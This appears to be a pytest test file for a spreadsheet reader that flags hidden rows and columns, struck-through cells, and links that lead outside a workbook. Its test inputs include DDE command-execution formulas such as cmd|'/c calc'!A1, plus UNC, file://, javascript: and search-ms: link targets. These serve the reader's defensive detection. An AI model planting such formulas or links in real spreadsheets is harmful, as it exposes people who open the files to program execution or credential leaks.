"""What a file says of its rows, columns and cells beside what they show."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.styles import Font

from files.packages import MAIN, RELATION, links, outside, parts, sheet, strings, styles, zipped
from jibiao.files.links import leads_out, of_formula
from jibiao.files.workbook import Workbook, read_workbook
from jibiao.grid import Grid, Remark, address

STRUCK = Font(strike=True)


def first(path: Path) -> Grid:
    return read_workbook(path).grids[0]


def told(grid: Grid, kind: str) -> dict[str, str]:
    """Remarks of a kind: what is said, by cell."""
    return {address(one.row, one.column): one.detail for one in grid.remarks if one.kind == kind}


@pytest.fixture
def marked(tmp_path: Path) -> Path:
    """A workbook with hidden rows and columns and cells struck through."""
    book = openpyxl.Workbook()
    page = book.active
    for row in range(1, 9):
        for column in range(1, 5):
            page.cell(row, column, f"{row}行{column}列")
    page.row_dimensions[3].hidden = True
    page.row_dimensions.group(6, 7, hidden=True)
    page.column_dimensions["B"].hidden = True
    page.column_dimensions.group("F", "XFD", hidden=True)
    page["A1"].font = STRUCK
    page["C9"].font = STRUCK  # blank
    page["C1"] = CellRichText(TextBlock(InlineFont(strike=True), "80户"), "100户")
    page["C2"] = CellRichText(
        TextBlock(InlineFont(strike=True), "80"), TextBlock(InlineFont(strike=True), "户")
    )
    page["C3"] = CellRichText(TextBlock(InlineFont(b=True), "80"), "户")
    path = tmp_path / "marked.xlsx"
    book.save(path)
    return path


def test_what_is_hidden_and_struck_through_is_said(marked):
    grid = first(marked)
    assert grid.hidden_rows == {2, 5, 6}
    assert grid.hidden_columns == {1}  # not those beyond the cells
    assert told(grid, "struck") == {"A1": "", "C1": "80户", "C2": ""}


SPELLINGS = {
    "usual": ('<cols><col min="2" max="3" hidden="1"/></cols>', '<row r="2" hidden="1"><c r="A2"><v>1</v></c></row>'),
    "true": ('<cols><col max="3" min="2" hidden="true"/></cols>', '<row hidden="true" r="2"><c r="A2"><v>1</v></c></row>'),
    "quotes": ("<cols><col min='2' max='3' hidden='1'/></cols>", "<row r='2' hidden='1'><c r='A2'><v>1</v></c></row>"),
    "no address": ('<cols><col min="2" max="3" width="0"/></cols>', '<row/><row ht="0"><c><v>1</v></c></row>'),
    "nothing before": ('<cols><col min="2" max="3" hidden="1"/></cols>', '<row r="2" ht="0"><c r="A2"><v>1</v></c></row>'),
    "comment": ('<cols><col min="2" max="3" hidden="1"/></cols><!-- -->', '<row r="2" hidden="1"><c r="A2"><v>1</v></c></row>'),
    "not the last row": (
        '<cols><col min="2" max="3" hidden="1"/></cols>',
        '<row r="1"><c r="A1"/></row><row r="2" hidden="1"><c r="A2"/><c r="B2"><v>1</v></c></row><row r="3"/>',
    ),
}  # fmt: skip


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_hidden_rows_and_columns_of_every_spelling(tmp_path, spelling):
    columns, rows = SPELLINGS[spelling]
    xml = sheet(f'{rows}<row r="4"><c r="C4"><v>1</v></c></row>').replace(
        "<sheetData>", f"{columns}<sheetData>"
    )
    grid = first(zipped(tmp_path / "a.xlsx", parts(xml)))
    assert (grid.hidden_rows, grid.hidden_columns) == ({1}, {1, 2})


def test_rows_and_columns_that_are_said_to_be_shown_are_not_hidden(tmp_path):
    """As LibreOffice writes every row."""
    xml = sheet(
        '<row r="1" customFormat="false" ht="12.8" hidden="false"><c r="A1" s="0" t="n"><v>1</v></c></row>'
        '<row r="2" ht="0.75" hidden="0"><c r="A2"><v>1</v></c></row>'
    ).replace("<sheetData>", '<cols><col min="1" max="2" hidden="false"/></cols><sheetData>')
    grid = first(zipped(tmp_path / "a.xlsx", parts(xml)))
    assert not grid.hidden_rows
    assert not grid.hidden_columns


def test_struck_fonts_and_texts_of_other_spellings(tmp_path):
    look = (
        f'<x:styleSheet xmlns:x="{MAIN}"><x:fonts><x:font><x:strike val="0"/></x:font><x:font><x:strike val="true"/>'
        "</x:font></x:fonts><x:cellStyleXfs><x:xf fontId='1'/></x:cellStyleXfs><x:cellXfs><x:xf fontId='0'/>"
        "<x:xf fontId='1'/></x:cellXfs><x:dxfs><x:dxf><x:font><x:strike/></x:font></x:dxf></x:dxfs></x:styleSheet>"
    )
    shared = (
        f'<sst xmlns="{MAIN}"><si><t>甲</t></si><si><r><rPr><strike/></rPr><t>乙</t></r><r><t> </t></r></si>'
        '<si><r><rPr><strike val="0"/></rPr><t>丙</t></r></si></sst>'
    )
    cells = (
        '<c r="A1" s="1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>2</v></c>'
        '<c r="D1" t="inlineStr"><is><r><rPr><strike val="1"/></rPr><t>丁</t></r><r><t>戊</t></r></is></c>'
        '<c r="E1" s="1"/><c r="F1" s="0" t="s"><v>0</v></c>'
    )
    content = parts(sheet(f'<row r="1">{cells}</row>'), styles=look, strings=shared)
    assert told(first(zipped(tmp_path / "a.xlsx", content)), "struck") == {"A1": "", "B1": "", "D1": "丁"}


def linked(hyperlinks: dict[str, str], formulas: dict[str, str], others: list[str]) -> dict[str, str | bytes]:
    """A workbook with hyperlinks by cell, formulas by cell, and the other workbooks that formulas name by number
    (external links, as their XML or as their target)."""
    rows = "".join(
        f'<row r="{cell[1:]}"><c r="{cell}" t="str"><f>{formula}</f><v>值</v></c></row>'
        for cell, formula in formulas.items()
    )
    marks = "".join(f'<hyperlink ref="{cell}" r:id="h{n}"/>' for n, cell in enumerate(hyperlinks))
    books = "".join(f'<externalReference r:id="e{n}"/>' for n in range(len(others)))
    pointing = "".join(
        f'<Relationship Id="e{n}" Type="{RELATION}/externalLink" Target="externalLinks/externalLink{n}.xml"/>'
        for n in range(len(others))
    )
    content = parts(
        sheet(rows, f'<hyperlinks xmlns:r="{RELATION}">{marks}</hyperlinks>' if marks else ""),
        workbook=f'<workbook xmlns="{MAIN}" xmlns:r="{RELATION}"><sheets><sheet name="表一" sheetId="1" r:id="r1"/>'
        f"</sheets><externalReferences>{books}</externalReferences></workbook>",
        rels=links(("worksheet", "worksheets/sheet1.xml")).replace("</", pointing + "</"),
    )
    content["xl/worksheets/_rels/sheet1.xml.rels"] = outside("hyperlink", "h", hyperlinks.values())
    for n, other in enumerate(others):
        of_program = other.startswith("<")
        content[f"xl/externalLinks/externalLink{n}.xml"] = (
            f'<externalLink xmlns="{MAIN}">{other if of_program else "<externalBook/>"}</externalLink>'
        )
        if not of_program:
            content[f"xl/externalLinks/_rels/externalLink{n}.xml.rels"] = outside(
                "externalLinkPath", "b", [other]
            )
    return content


DDE = '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'


def test_what_leads_out_of_the_file_is_said_at_its_cell(tmp_path):
    book = read_workbook(
        zipped(
            tmp_path / "a.xlsx",
            linked(
                {
                    "A1": "file:///\\\\server\\share\\a.docx",
                    "B1:C2": "\\\\10.0.0.1\\x",
                    "D1": "https://www.gov.cn/",
                },
                {
                    "A3": "[1]Sheet1!A1+1",
                    "A4": "'[2]某 表'!$B$2",
                    "A5": "[3]!A1",
                    "A6": "cmd|'/c calc'!A1",
                    "A7": "HYPERLINK(&quot;\\\\server\\x&quot;,&quot;点这里&quot;)",
                    "A8": "SUM(Table1[1])&amp;&quot;[1]|x!&quot;",
                    "A9": "HYPERLINK(&quot;#表一!A1&quot;,1)",
                },
                ["file:///C:\\%E8%A1%A8.xlsx", "其他.xlsx", DDE],
            ),
        )
    )
    (grid,) = book.grids
    assert told(grid, "link") == {
        "A1": "file:///\\\\server\\share\\a.docx",
        "B1": "\\\\10.0.0.1\\x",
        "A7": "\\\\server\\x",
    }
    assert told(grid, "other_workbook") == {
        "A3": "file:///C:\\表.xlsx",
        "A4": "其他.xlsx",
        "A8": "file:///C:\\表.xlsx",
    }
    assert told(grid, "dde") == {"A5": "cmd", "A6": "cmd"}
    assert book.links == []


def test_what_no_cell_names_is_said_of_the_file(tmp_path):
    content = linked({}, {"A1": "1+1"}, ["别处.xlsx", DDE])
    content["xl/drawings/_rels/drawing1.xml.rels"] = outside(
        "image", "i", ["file:///\\\\server\\a.png", "b.png"]
    )
    book = read_workbook(zipped(tmp_path / "a.xlsx", content))
    assert book.grids[0].remarks == []
    assert book.links == [
        ("other_workbook", "别处.xlsx"),
        ("dde", "cmd"),
        ("link", "file:///\\\\server\\a.png"),
    ]


def test_a_name_that_runs_a_program_is_said_of_the_file(tmp_path):
    content = linked({}, {"A1": "1+1"}, [])
    content["xl/workbook.xml"] = content["xl/workbook.xml"].replace(
        "<externalReferences></externalReferences>",
        "<definedNames><definedName name='a'>cmd|'/c calc'!A1</definedName><definedName name='b'>表一!$A$1</definedName>"
        "</definedNames>",
    )
    assert read_workbook(zipped(tmp_path / "a.xlsx", content)).links == [("dde", "cmd")]


def test_cells_that_share_a_formula_lead_to_the_same_place(tmp_path):
    content = linked({}, {}, ["别处.xlsx"])
    content["xl/worksheets/sheet1.xml"] = sheet(
        '<row r="1"><c r="A1"><f t="shared" ref="A1:A2" si="0">[1]S!A1</f><v>1</v></c></row>'
        '<row r="2"><c r="A2"><f t="shared" si="0"/><v>1</v></c></row>'
    )
    assert told(first(zipped(tmp_path / "a.xlsx", content)), "other_workbook") == dict.fromkeys(
        ("A1", "A2"), "别处.xlsx"
    )


def test_pictures_of_wps_and_of_excel_are_told_from_texts_and_errors(tmp_path):
    cells = (
        '<c r="A1" t="str"><f>_xlfn.DISPIMG("ID_0A",1)</f><v>=DISPIMG("ID_0A",1)</v></c>'
        '<c r="B1" t="e"><f>_xlfn.DISPIMG("ID_0A",1)</f><v>#NAME?</v></c>'
        '<c r="C1" t="e" vm="1"><v>#VALUE!</v></c><c r="D1" t="e"><v>#VALUE!</v></c>'
    )
    content = parts(
        sheet(f'<row r="1">{cells}</row>'),
        rels=links(("worksheet", "worksheets/sheet1.xml"), ("rdRichValueStructure", "richData/s.xml")),
    )
    content["xl/richData/s.xml"] = '<rvStructures><s t="_localImage"/></rvStructures>'
    grid = first(zipped(tmp_path / "a.xlsx", content))
    assert told(grid, "picture") == dict.fromkeys(("A1", "B1", "C1"), "")


def test_a_workbook_of_openpyxl_s_with_nothing_special_says_nothing(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["a", 1, "=1+1"])
    book.active["A1"].hyperlink = "https://www.gov.cn"
    book.save(tmp_path / "a.xlsx")
    found = read_workbook(tmp_path / "a.xlsx")
    assert (found.grids[0].remarks, found.links) == ([], [])


OUT = [
    *("file:///C:/a.xlsx", "\\\\server\\a", "//server/a", "C:\\a\\b", "ftp://server.cn/a", "javascript:a()"),
    *("http://server/a", "https://server@SSL@8443/DavWWWRoot/a", "search-ms:query=a", " \\\\server\\a"),
]
IN = [
    *(
        "https://www.gov.cn/a?b=file://c",
        "http://1.2.3.4/a",
        "www.gov.cn:8080/a",
        "mailto:a@b.cn",
        "tel:1",
        "附件.docx",
        "../附件.docx",
    ),
    *("#表一!A1", "", "https://user@www.gov.cn/"),
]


@pytest.mark.parametrize(("target", "out"), [*((t, True) for t in OUT), *((t, False) for t in IN)])
def test_a_link_to_the_web_is_no_link_to_a_machine(target, out):
    assert leads_out(target) is out


@pytest.mark.parametrize(
    ("formula", "found"),
    [
        ("=cmd|'/c calc'!A1", ("dde", "cmd")),
        ("@SUM(1+1)*cmd|' /C calc'!A0", ("dde", "cmd")),
        ('of:=DDE("soffice";"/a.ods";"A1")', ("dde", "soffice")),
        ("of:='file:///C:/a%20b.xlsx'#$Sheet1.A1", ("other_workbook", "file:///C:/a b.xlsx")),
        ("='\\\\server\\[表.xlsx]S'!A1", ("other_workbook", "表.xlsx")),
        ('=WEBSERVICE("http://a.cn/?"&A1)', ("link", "http://a.cn/?")),
        ('=DISPIMG("ID_0A",1)', ("picture", "")),
        ("=95%", None),
        ("SUM(Table1[2024])", None),
        ('TEXTJOIN("|",1,A1:A3)&"a|b!c"', None),
    ],
)
def test_formulas_that_lead_out(formula, found):
    assert of_formula(formula) == found


def test_a_long_formula_of_signs_is_looked_at_in_no_time():
    for text in ("[a" * 4000, "a|" * 4000, "'file:" * 1500, '"' * 8000 + "["):
        assert of_formula(text) is None


def test_a_sheet_of_many_links_says_them_in_time(tmp_path):
    formulas = {f"A{row}": "[1]S!A1" for row in range(1, 30_001)}
    grid = first(zipped(tmp_path / "a.xlsx", linked({}, formulas, ["别处.xlsx"])))
    assert len(told(grid, "other_workbook")) == 20_000


def test_damaged_parts_behind_links_do_no_harm(tmp_path):
    content = linked({"A1": "\\\\a\\b"}, {"A2": "[1]S!A1"}, ["别处.xlsx"])
    content["xl/externalLinks/externalLink0.xml"] = "<damaged"
    content["xl/drawings/_rels/drawing1.xml.rels"] = "<Relationships TargetMode='External'"
    book: Workbook = read_workbook(zipped(tmp_path / "a.xlsx", content))
    assert book.grids[0].remarks == [
        Remark("other_workbook", 1, 0, "别处.xlsx"),
        Remark("link", 0, 0, "\\\\a\\b"),
    ]


def test_styles_without_fonts_and_strings_without_runs_are_as_before(tmp_path):
    content = parts(
        sheet('<row r="1"><c r="A1" s="1" t="s"><v>0</v></c></row>'),
        styles=styles("0"),
        strings=strings("strike"),
    )
    assert first(zipped(tmp_path / "a.xlsx", content)).remarks == []
